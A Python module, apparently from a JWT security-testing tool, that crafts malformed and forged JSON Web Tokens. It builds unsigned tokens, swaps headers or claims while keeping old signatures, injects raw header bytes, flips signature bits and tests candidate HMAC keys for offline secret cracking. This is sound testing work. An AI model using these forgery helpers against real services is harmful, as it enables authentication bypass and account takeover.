"""Attack tokens, crafted byte by byte (stdlib only): JWT libraries refuse to make them."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from dataclasses import dataclass
from typing import Any

HMAC_DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(segment: str) -> bytes:
    """Strict base64url without padding; raises ``ValueError`` on anything else."""
    if "=" in segment or any(c not in _B64URL for c in segment) or len(segment) % 4 == 1:
        raise ValueError("not unpadded base64url")
    try:
        return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
    except binascii.Error as exc:
        raise ValueError(str(exc)) from None


_B64URL = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")


def encode_json(value: Any) -> str:
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode())


@dataclass(frozen=True)
class ParsedToken:
    """A compact JWS split into its parts; ``header``/``claims`` are ``None`` when not JSON objects."""

    raw: str
    segments: tuple[str, ...]
    header: dict[str, Any] | None
    claims: dict[str, Any] | None

    @property
    def signing_input(self) -> str:
        return ".".join(self.segments[:2])

    @property
    def signature(self) -> str:
        return self.segments[2] if len(self.segments) > 2 else ""

    @property
    def alg(self) -> str | None:
        value = (self.header or {}).get("alg")
        return value if isinstance(value, str) else None


def _json_object(segment: str) -> dict[str, Any] | None:
    try:
        value = json.loads(b64url_decode(segment).decode("utf-8"))
    except (ValueError, UnicodeDecodeError):
        return None
    return value if isinstance(value, dict) else None


def parse(token: str) -> ParsedToken:
    segments = tuple(token.split("."))
    header = _json_object(segments[0]) if segments else None
    claims = _json_object(segments[1]) if len(segments) > 1 else None
    return ParsedToken(token, segments, header, claims)


def hmac_sign(signing_input: str | bytes, key: bytes, alg: str = "HS256") -> str:
    data = signing_input.encode() if isinstance(signing_input, str) else signing_input
    return b64url_encode(hmac.new(key, data, HMAC_DIGESTS[alg]).digest())


def make_hs(header: dict[str, Any], claims: dict[str, Any], key: bytes, alg: str = "HS256") -> str:
    signing_input = f"{encode_json(header)}.{encode_json(claims)}"
    return f"{signing_input}.{hmac_sign(signing_input, key, alg)}"


def with_header(token: ParsedToken, header: dict[str, Any], signature: str | None = None) -> str:
    """The token with its header replaced, keeping payload and (unless given) signature."""
    sig = token.signature if signature is None else signature
    return f"{encode_json(header)}.{token.segments[1]}.{sig}"


def with_claims(token: ParsedToken, claims: dict[str, Any], signature: str | None = None) -> str:
    sig = token.signature if signature is None else signature
    return f"{token.segments[0]}.{encode_json(claims)}.{sig}"


def unsigned(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return f"{encode_json(header)}.{encode_json(claims)}."


def raw_header(header_json: str | bytes, token: ParsedToken, key: bytes | None = None, alg: str = "HS256") -> str:
    """A token whose header segment is exactly ``header_json`` (duplicate keys, BOMs...), signed if ``key``."""
    data = header_json.encode() if isinstance(header_json, str) else header_json
    signing_input = f"{b64url_encode(data)}.{token.segments[1]}"
    signature = hmac_sign(signing_input, key, alg) if key is not None else token.signature
    return f"{signing_input}.{signature}"


def flip_last_bit(segment: str) -> str:
    """The segment with one bit of its decoded bytes flipped (a different, still well-formed signature)."""
    data = bytearray(b64url_decode(segment))
    if not data:
        return "AA"
    data[-1] ^= 0x01
    return b64url_encode(bytes(data))


def verify_hs(token: ParsedToken, key: bytes) -> bool:
    """True when ``key`` reproduces the token's HMAC signature (offline secret cracking)."""
    alg = token.alg
    if alg not in HMAC_DIGESTS or len(token.segments) != 3:
        return False
    return hmac.compare_digest(hmac_sign(token.signing_input, key, alg), token.signature)
